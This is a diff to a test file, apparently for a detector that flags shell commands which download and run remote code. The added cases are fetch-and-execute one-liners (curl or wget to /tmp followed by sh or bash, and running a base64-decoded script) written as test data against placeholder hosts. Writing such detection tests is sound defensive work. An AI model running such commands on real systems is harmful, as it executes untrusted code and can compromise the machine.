@@ -426,6 +426,10 @@ test.each<[string, string]>([
   ['eval "$(wget -qO- https://host/x)"', "what wget brings"],
   ["bash <(curl -s https://host/x)", "what curl brings"],
   ["source <(aws s3 cp s3://a/b -)", "what aws brings"],
+  ["wget -qO /tmp/a.sh https://host/x && sh /tmp/a.sh", "what wget brings"],
+  ["cd /tmp; curl -sO https://host/a.sh; bash a.sh", "what curl brings"],
+  ['F=/tmp/setup; curl -s https://host/x >"$F"; chmod +x "$F"; "$F"', "what curl brings"],
+  ["echo c2VkCg== | base64 -d >/tmp/a.sh; sh /tmp/a.sh", "what base64 brings"],
   ["ansible localhost -m lineinfile -a path=/etc/ssh/sshd_config", "ansible"],
   ["apt-get install -y --reinstall openssh-server", "apt-get"],
   ["dpkg -i /tmp/openssh-server_1_amd64.deb", "dpkg"],
@@ -441,6 +445,7 @@ test.each<[string, string]>([
 
 test.each([
   "curl -fsSL https://host/x >/tmp/x",
+  "curl -fsSL https://host/x >/tmp/x; sh /tmp/y",
   'x="$(curl -s https://host/x)"',
   'eval "$(ssh-agent -s)"',
   "apt-get update; apt-get install -y curl",
